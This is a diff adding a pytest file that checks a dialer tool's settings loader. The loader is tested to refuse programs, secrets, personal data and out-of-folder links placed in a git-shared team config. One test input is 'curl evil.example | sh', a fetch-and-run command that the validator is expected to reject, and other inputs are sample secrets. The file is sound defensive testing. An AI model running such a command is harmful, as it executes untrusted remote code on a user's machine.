@@ -1,0 +1,137 @@
+"""A shared file comes by git: it may not run, identify or reveal anything."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+
+import pytest
+
+from tui.settings.load import Loaded
+from tui.settings.places import Places
+
+Load = Callable[..., Loaded]
+
+
+@pytest.mark.parametrize(
+    ("team", "line", "col", "paste"),
+    [
+        ('dialer: {command: [sh, -c, "x {e164}"]}', 2, 10, 'dialer: {command: [sh, -c, "x {e164}"]}'),
+        ('dialer: {command: "curl evil.example | sh"}', 2, 10, 'dialer: {command: "curl evil.example | sh"}'),
+        ("editor: vim", 2, 1, "editor: [vim]"),
+    ],
+)
+def test_a_program_in_the_shared_file_is_refused_with_the_line_to_paste(
+    team: str, line: int, col: int, paste: str, settings_from: Load, places: Places
+) -> None:
+    found = settings_from(team=team)
+    assert [(p.code, p.severity, p.line, p.col) for p in found.problems] == [("PH910", "error", line, col)]
+    assert found.problems[0].help.endswith(f"({places.own}):   {paste}")
+    assert found.settings.dial.command == found.settings.editor == ()
+    assert found.settings.dial.kind == "manual"
+
+
+@pytest.mark.parametrize("team", ['hooks: {after_call: "notify-send x"}', "crm:\n  shell: sh"])
+def test_a_program_under_any_other_name_is_refused_as_well(team: str, settings_from: Load) -> None:
+    found = settings_from(team=team)
+    assert [p.code for p in found.problems] == ["PH910"]
+    assert "delete it" in found.problems[0].help
+
+
+@pytest.mark.parametrize(
+    ("team", "paste"),
+    [
+        ("me: {name: Sam Reed}", 'me: {name: "Sam Reed"}'),
+        ("softphone: {account: sip}", "softphone: {account: sip}"),
+        ("team_file: x.yaml", "team_file: x.yaml"),
+        ('dialer: {kind: uri, prefix: "0"}', "dialer: {prefix: 0}"),
+    ],
+)
+def test_what_is_personal_is_refused_with_the_line_to_paste(
+    team: str, paste: str, settings_from: Load
+) -> None:
+    found = settings_from(team=team)
+    assert [(p.code, p.line) for p in found.problems] == [("PH911", 2)]
+    assert found.problems[0].help.endswith(f":   {paste}")
+
+
+@pytest.mark.parametrize(
+    "team",
+    [
+        "crm: {api_key: abc123}",
+        "record: {password: hush}",
+        "softphone: {token: abc}",
+        "experiments: {metric: sk-abcdefghijklmnopqrstuv}",
+        "team: {company: ghp_abcdefghijklmnopqrstuvwx}",
+        "card_fields: [AKIAABCDEFGHIJKLMNOP]",
+    ],
+)
+def test_a_secret_in_the_shared_file_is_refused(team: str, settings_from: Load) -> None:
+    found = settings_from(team=team)
+    assert [(p.code, p.severity, p.line) for p in found.problems] == [("PH912", "error", 2)]
+    assert "keyring" in found.problems[0].help
+
+
+@pytest.mark.parametrize(
+    "team",
+    [
+        "outcomes: {secret_shopper: {is: win, key: b, label: Secret shopper}}",
+        "outcomes: {run: {is: win, key: b, label: Trial run}}",
+        "defaults: {en: {command: please}}",
+    ],
+)
+def test_a_harmless_name_is_neither_a_secret_nor_a_program(team: str, settings_from: Load) -> None:
+    assert settings_from(team=team).problems == ()
+
+
+def test_a_password_in_the_own_file_is_refused_as_well(settings_from: Load) -> None:
+    found = settings_from(own="softphone: {password: hush}")
+    assert [p.code for p in found.problems] == ["PH912"]
+    assert found.settings.softphone == {}
+
+
+def test_a_secret_is_never_repeated_in_the_report(settings_from: Load) -> None:
+    found = settings_from(team="crm: {api_key: abc123}")
+    assert "abc123" not in found.problems[0].message + found.problems[0].help
+
+
+def test_somebody_s_number_in_the_shared_file_is_a_warning(settings_from: Load) -> None:
+    found = settings_from(team='team: {company: "Acme, ask Ann +44 20 7946 0100"}')
+    assert [(p.code, p.severity, p.line, p.col) for p in found.problems] == [("PH913", "warning", 2, 17)]
+    assert found.settings.company.startswith("Acme")
+
+
+def test_dates_and_hours_are_no_personal_data(settings_from: Load) -> None:
+    team = "calling_window: {holidays: [2026-12-25], mon-fri: 09:00-18:00}\nsessions: {minutes: [15]}"
+    assert settings_from(team=team).problems == ()
+
+
+@pytest.mark.parametrize(
+    "own", ["team: {company: Mine}", "outcomes: {win: off}", "lock: []", "scripts: {folder: mine}"]
+)
+def test_a_decision_of_the_team_is_not_one_rep_s(own: str, settings_from: Load) -> None:
+    found = settings_from(own=own)
+    assert [(p.code, p.line, p.file.endswith("own.yaml")) for p in found.problems] == [("PH915", 1, True)]
+    assert found.settings == settings_from(own="").settings
+
+
+def test_a_rep_without_a_team_decides_alone(settings_from: Load) -> None:
+    found = settings_from(own="team: {company: Mine}\noutcomes: {win: {label: Sold}}", shared=False)
+    assert found.problems == ()
+    assert found.settings.company == "Mine"
+    assert {o.id: o.label for o in found.settings.outcomes}["win"] == "Sold"
+
+
+def test_a_link_out_of_the_team_folder_is_refused(settings_from: Load, places: Places) -> None:
+    outside = places.team.parent / "outside"
+    outside.mkdir()
+    (places.team / "linked").symlink_to(outside)
+    found = settings_from(team="scripts: {folder: linked}")
+    assert [(p.code, p.line) for p in found.problems] == [("PH914", 2)]
+    assert not found.settings.scripts_folder.exists()
+
+
+def test_a_command_must_be_a_list_that_names_the_number(settings_from: Load) -> None:
+    for own in ("dialer: {command: ring it}", "dialer: {command: []}", "dialer: {command: [ring]}"):
+        found = settings_from(own=own)
+        assert [p.code for p in found.problems] == ["PH917"]
+        assert '[program, argument, "{e164}"]' in found.problems[0].help
